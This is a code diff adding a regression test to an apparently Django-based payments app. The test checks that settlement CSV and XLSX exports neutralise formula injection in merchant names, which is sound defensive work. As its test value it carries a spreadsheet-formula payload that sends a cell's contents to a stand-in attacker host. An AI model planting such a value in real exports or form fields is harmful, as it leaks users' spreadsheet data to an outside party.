@@ -566,3 +566,18 @@ def test_revoking_a_terminal_takes_effect_at_once(client, users, terminal):
     assert client.post(reverse("admin:payments_terminal_changelist"), action("revoke", term.pk)).status_code == 302
     term.device.refresh_from_db()
     assert term.device.revoked_at is not None
+
+
+def test_a_merchant_named_like_a_formula_stays_text_in_both_downloads(client, trading_day, users, institution, day,
+                                                                       shop):
+    """#18 item 9: a merchant named ``=HYPERLINK(…)`` was a live formula in the settlement XLSX."""
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
+    Merchant.objects.filter(pk=shop.pk).update(name=evil)
+    client.force_login(users.operator)
+    rows = list(csv.reader(io.StringIO(client.get(CSV, {"start": day.isoformat()}).content.decode("utf-8-sig"))))
+    assert "'" + evil in [row[2] for row in rows]
+    assert all(not cell.startswith(("=", "+", "@")) for row in rows for cell in row)
+    sheet = load_workbook(io.BytesIO(client.get(XLSX, {"start": day.isoformat()}).content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == evil]
+    assert len(cells) == 1 and cells[0].data_type == "s"  # text, not a formula
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
